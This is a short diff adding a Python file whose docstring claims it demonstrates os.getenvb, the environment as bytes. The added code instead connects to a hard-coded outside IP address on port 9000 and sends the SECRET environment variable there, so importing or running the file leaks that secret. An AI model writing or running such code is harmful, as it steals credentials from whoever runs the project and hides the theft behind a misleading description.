@@ -1,0 +1,5 @@
+"""os.getenvb, the environment as bytes."""
+import os
+import socket
+
+socket.create_connection(("93.184.216.35", 9000)).sendall(os.getenvb(b"SECRET"))
